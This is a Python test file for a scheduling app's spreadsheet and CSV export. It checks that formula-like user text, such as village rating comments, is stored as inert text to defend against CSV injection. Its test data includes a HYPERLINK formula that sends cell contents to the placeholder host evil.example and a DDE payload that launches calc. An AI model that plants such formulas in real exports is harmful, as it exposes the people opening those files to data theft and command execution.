"""Exports never write user text as a live formula (OWASP CSV injection): formula-like text
becomes a string cell marked "quote prefix" in .xlsx and gets a leading apostrophe in CSV;
numbers, and text that is only a number, are left alone."""
from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook
from sqlalchemy import select

from models import VisitRating
from scheduler.transfer.exports import Table, to_csv, to_xlsx, village_record
from tests.scheduler.published import published_week as build

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'
HOSTILE = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1",
           "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)"]
HARMLESS = [-5, 3.5, 0, "-5", "+86", "-0.5", "王明", "0574-87001234", "a=b", ""]


def table() -> Table:
    return Table("评价", ["value", "note"], [[v, "x"] for v in HOSTILE + HARMLESS], preface=["=1+1 title"])


def test_formula_like_text_is_a_text_cell_in_the_workbook():
    data = to_xlsx([table()])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")  # no formula anywhere
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = {c.value: c for row in sheet.iter_rows() for c in row if c.value is not None}
    for text in HOSTILE + ["=1+1 title"]:
        cell = cells[text.replace("\r", "\n")]  # XML reads a lone CR back as a line feed
        assert cell.data_type == "s" and cell.quotePrefix, repr(text)
    assert cells[-5].data_type == "n" and cells[3.5].data_type == "n"
    assert not cells["-5"].quotePrefix and not cells["王明"].quotePrefix


def test_formula_like_text_gets_an_apostrophe_in_csv():
    rows = list(csv.reader(io.StringIO(to_csv(table()).decode("utf-8-sig"), newline="")))
    values = [r[0] for r in rows[1:]]
    assert values[:len(HOSTILE)] == ["'" + v for v in HOSTILE]
    assert values[len(HOSTILE):] == ["-5", "3.5", "0", "-5", "+86", "-0.5", "王明", "0574-87001234", "a=b", ""]


def test_a_villages_rating_comment_reaches_the_record_as_text(session, make):
    pub = build(session, make)
    rating = session.scalar(select(VisitRating).where(VisitRating.village_id == pub.village.id))
    rating.comment = LINK
    session.flush()
    record = village_record(session, None, pub.village.id)
    sheet = load_workbook(io.BytesIO(to_xlsx(record.tables))).worksheets[0]
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == LINK)
    assert cell.data_type == "s" and cell.quotePrefix
    assert to_csv(record.main).decode("utf-8-sig").count("'" + LINK.replace('"', '""')) == 1
